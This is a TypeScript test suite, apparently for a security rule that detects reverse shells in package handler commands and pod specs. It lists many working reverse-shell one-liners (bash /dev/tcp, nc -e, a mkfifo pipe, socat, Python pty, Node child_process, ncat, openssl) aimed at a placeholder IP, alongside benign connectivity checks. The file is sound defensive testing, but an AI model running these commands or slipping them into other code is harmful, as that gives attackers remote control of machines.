import { expect } from 'chai'
import { reverseShell } from '../../../../consumers/governance/rules/reverse-shell.ts'
import { findings, packageWith, shell } from '../packages.ts'
import { handlers, pod, python, ruleCases } from './cases.ts'

const found = (command: string, more: Record<string, unknown> = {}) =>
  findings(reverseShell, packageWith([shell(command, more)]))

describe('WPK-P3-005 reverse shell', () => {
  const risky: [string, string?][] = [
    ['sh -i >& /dev/tcp/203.0.113.5/4444 0>&1'],
    ["nohup bash -c 'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1' &"],
    ['nc -e /bin/sh 203.0.113.5 4444'],
    ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f'],
    ['exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do $line >&5; done'],
    ['socat TCP:203.0.113.5:443 EXEC:/bin/bash,pty'],
    [
      'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",1));os.dup2(s.fileno(),0);pty.spawn("sh")\'',
    ],
    [
      'const n = require("net"), c = require("child_process").spawn("/bin/sh", []);\nconst s = new n.Socket();\ns.connect(4444, "203.0.113.5", () => { s.pipe(c.stdin) })',
      'node',
    ],
    ['ssh -N -R 2222:localhost:22 out@203.0.113.5'],
  ]
  for (const [command, interpreter] of risky) {
    it(`finds ${command.slice(0, 60).replaceAll('\n', ' ')}`, () => {
      const violations = found(command, interpreter === undefined ? {} : { interpreter })
      expect(violations).to.have.length.at.least(1)
      expect(violations[0]?.pointer).to.equal('/spec/handlers/0/config/command')
      expect(violations[0]?.severity).to.be.oneOf(['critical', 'high'])
    })
  }

  const sound: [string, string?][] = [
    ['nc -z db.shop.svc 5432'],
    ['until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done'],
    ['timeout 3 bash -c "</dev/tcp/db.shop.svc/5432"'],
    ['echo "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"'],
    ['# nc -e /bin/sh 203.0.113.5 4444\nmake'],
    ['ssh deploy@host "systemctl restart app"'],
    ['bash build.sh 2>&1 | tee build.log'],
    ['import socket\ns = socket.socket()\ns.connect(("db", 5432))', 'python3'],
  ]
  for (const [command, interpreter] of sound) {
    it(`is silent on ${command.slice(0, 60).replaceAll('\n', ' ')}`, () => {
      expect(found(command, interpreter === undefined ? {} : { interpreter })).to.deep.equal([])
    })
  }
})

ruleCases(reverseShell, {
  finds: [
    'bash -c "exec bash -i &>/dev/tcp/203.0.113.5/443 <&1"',
    handlers(shell('ncat --exec "/bin/bash -l" 203.0.113.5 8443 --ssl')),
    python(
      'import os, pty, socket\ns = socket.socket()\ns.connect(("203.0.113.5", 443))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")',
    ),
    pod(
      {},
      {
        command: ['sh', '-c'],
        args: ['mkfifo /tmp/p; sh -i < /tmp/p 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /tmp/p'],
      },
    ),
  ],
  leaves: [
    'bash -c "exec 3<>/dev/tcp/db.shop.svc/5432" && echo reached',
    handlers(shell('ncat -zv --wait 3 db.shop.svc 5432')),
    python(
      'import socket\nwith socket.create_connection(("smtp.shop.svc", 25), timeout=3) as s:\n    print(s.recv(100))',
    ),
    pod(
      {},
      {
        command: ['sh', '-c'],
        args: ['openssl s_client -connect shop.example.net:443 </dev/null 2>/dev/null | openssl x509 -noout -enddate'],
      },
    ),
  ],
})
